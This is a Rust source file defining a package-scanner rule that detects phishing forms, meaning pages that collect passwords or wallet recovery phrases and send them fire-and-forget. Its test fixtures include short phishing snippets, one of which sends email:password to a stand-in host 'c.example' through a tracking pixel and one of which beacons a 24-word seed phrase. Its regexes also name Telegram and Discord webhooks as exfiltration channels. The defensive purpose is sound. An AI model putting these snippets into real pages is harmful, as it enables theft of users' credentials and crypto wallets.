//! Rule `credential-phishing`.

use crate::model::Severity;
use crate::package::{FileKind, Package};
use crate::rules::{Emitter, all_text, is_doc_path};

crate::declare_rule! {
    /// A page or script shipped in the package builds a password field or asks for a wallet's
    /// recovery (seed) phrase, and sends what was typed fire-and-forget: `navigator.sendBeacon`,
    /// `fetch` with `mode: "no-cors"` (the page cannot even read the answer, so it is not a
    /// login), a tracking-pixel URL, or a chat-bot API. A real login form needs the server's
    /// reply; a real wallet never sends the recovery phrase anywhere. `critical`.
    id: "credential-phishing",
    category: Data,
    severity: Critical,
    capability: Some(crate::model::Capability::Network),
    title: "phishing form: password or recovery phrase sent fire-and-forget",
    incident: "Operation Brainleeches (ReversingLabs, Jul 2023) hosted Microsoft 365 phishing pages on npm; fake Ledger/Trezor 'firmware check' seed-phrase prompts (2020-2025)",
    case_file: "index.js",
    flag: ["el.innerHTML = '<input id=\"pw\" type=\"password\">';\nbtn.onclick = () => fetch(U, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ u, p: document.getElementById('pw').value }) });",
           "box.innerHTML = `<p>Enter your 24-word recovery phrase</p>${inputs}`;\nconst words = [...box.querySelectorAll('input')].map((i) => i.value);\nnavigator.sendBeacon(API, JSON.stringify(words));",
           "=== login.html\n<form><input name=email><input name=pass type=password></form><script>f.onsubmit=function(){new Image().src='https://c.example/p.gif?d='+btoa(f.email.value+':'+f.pass.value);return false}</script>"],
    pass: ["el.innerHTML = '<input type=\"password\">';\nconst r = await fetch(props.endpoint, { method: 'POST', body: JSON.stringify({ u, p: document.getElementById('pw').value }) });\nif (!r.ok) showError(await r.text());",
           "export function restore(phrase) { if (!validateMnemonic(phrase)) throw new Error('invalid recovery phrase'); return fromSeed(mnemonicToSeed(phrase)); }",
           "if (input.type === 'password') mask(input); navigator.sendBeacon('/rum', JSON.stringify(events));"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    let password = crate::regex!(
        r#"(?i)<input\b[^>]{0,300}\btype\s*=\s*\\?['"]?password\b|\.type\s*=\s*['"`]password['"`]|\btype:\s*['"`]password['"`]"#
    );
    let phrase = crate::regex!(
        r"(?i)\b(recovery|seed|secret|backup|mnemonic)[ -](phrase|words)\b|\b(12|24)[ -]word\b"
    );
    // Reads what the user typed into the page.
    let reads_inputs = crate::regex!(
        r"(?i)(querySelector(All)?|getElementById|getElementsBy[A-Za-z]+)\s*\([^;\n]{0,120}\.value\b|new\s+FormData\s*\(|\.elements\b|onsubmit\b[^\n]{0,200}\.value\b"
    );
    let blind = crate::regex!(
        r#"(?i)sendBeacon\s*\(|mode\s*:\s*['"`]no-cors['"`]|new\s+Image\s*\(\s*\d*\s*,?\s*\d*\s*\)\s*\.src\s*=|api\.telegram\.org/bot|discord(app)?\.com/api/webhooks"#
    );
    for f in &pkg.files {
        if f.script.is_some() || is_doc_path(&f.path) {
            continue;
        }
        let lower = f.path.to_ascii_lowercase();
        let page = f.kind == FileKind::Js
            || lower.ends_with(".html")
            || lower.ends_with(".htm")
            || lower.ends_with(".vue")
            || lower.ends_with(".svelte")
            || lower.ends_with(".php");
        if !page {
            continue;
        }
        let text = all_text(f);
        if !crate::mentions!(text, ["password", "phrase", "-word", " word"]) {
            continue;
        }
        let pw = password.find(text);
        let ph = phrase.find(text).filter(|_| reads_inputs.is_match(text));
        let (Some(m), what) = (match (pw, ph) {
            (_, Some(m)) => (Some(m), "a wallet recovery phrase"),
            (Some(m), None) => (Some(m), "a password"),
            (None, None) => (None, ""),
        }) else {
            continue;
        };
        if !reads_inputs.is_match(text) {
            continue;
        }
        let off = f.text_off(m.start(), 0);
        if let Some(b) = blind.find(text) {
            out.hit_sev(
                Severity::Critical,
                pkg,
                f,
                off,
                format!(
                    "asks for {what} and sends form input fire-and-forget ({})",
                    crate::package::one_line(b.as_str())
                ),
            );
        }
    }
}
